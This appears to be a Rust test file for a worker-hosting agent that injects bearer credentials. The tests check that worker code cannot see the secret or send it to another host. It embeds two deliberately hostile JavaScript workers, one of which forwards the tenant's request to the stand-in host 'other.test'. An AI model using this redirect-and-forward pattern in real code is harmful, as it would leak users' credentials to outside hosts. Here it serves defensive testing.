//! A credential is attached behind the worker: its code sees none, and cannot send one elsewhere.

use std::fs;

use super::hosted::{Hosted, PATIENT, in_both_hostings};

in_both_hostings!(
    the_worker_sees_no_credential_and_the_origin_no_other,
    a_credential_does_not_follow_the_worker_to_another_host,
);

/// Says what it saw, and sends what it says is its own.
const CURIOUS: &str = "export default { async fetch(request) {
    const seen = [...request.headers.values()].join(' ');
    const own = new Request(request);
    own.headers.set('authorization', 'of the worker');
    const answer = await fetch(own);
    return new Response(`${seen} ${[...answer.headers.values()].join(' ')} ${await answer.text()}`);
} }";

/// Sends the tenant's request to somebody else, and asks them for itself as well.
const ASTRAY: &str = "export default { async fetch(request) {
    const other = request.url.replace('api.example.com', 'other.test');
    await fetch(new Request(other, request));
    return fetch(request.url);
} }";

async fn start(hosting: &str, module: &str) -> Hosted {
    let hosted = Hosted::start(hosting, module, PATIENT).await;
    let token = hosted.directory.path().join("token");
    fs::write(&token, "s3cr3t-of-the-agent").unwrap();
    let credential = format!(
        "[credentials.c]\ntype = \"bearer\"\nhosts = [\"api.example.com:*\"]\n\
         secret = \"file:{}\"\nallow_plaintext = true\n[policies.p]\ncredentials = [\"c\"]\n",
        token.display()
    );
    let config = hosted.config.replace("[policies.p]", &credential);
    hosted.agent.reload(&config);
    hosted
}

/// The `authorization` of each request that has arrived.
fn sent(hosted: &Hosted) -> Vec<Option<String>> {
    let value = |value: &http::HeaderValue| value.to_str().unwrap().to_owned();
    let seen = hosted.origin.seen();
    let sent = seen.iter();
    sent.map(|seen| seen.headers.get("authorization").map(value))
        .collect()
}

async fn the_worker_sees_no_credential_and_the_origin_no_other(hosting: &str) {
    let hosted = start(hosting, CURIOUS).await;
    let reply = hosted.get("api.example.com", "/").await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert!(reply.body.ends_with("hello"), "{reply:?}");
    assert!(!reply.body.contains("s3cr3t"), "{reply:?}");
    assert_eq!(
        sent(&hosted),
        [Some("Bearer s3cr3t-of-the-agent".to_owned())]
    );
    hosted.agent.expect_metric(
        "outbound_credentials_total{credential=\"c\",use=\"injected\"}",
        1.0,
    );
}

async fn a_credential_does_not_follow_the_worker_to_another_host(hosting: &str) {
    let hosted = start(hosting, ASTRAY).await;
    let reply = hosted.get("api.example.com", "/").await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(sent(&hosted), [None, None]);
}
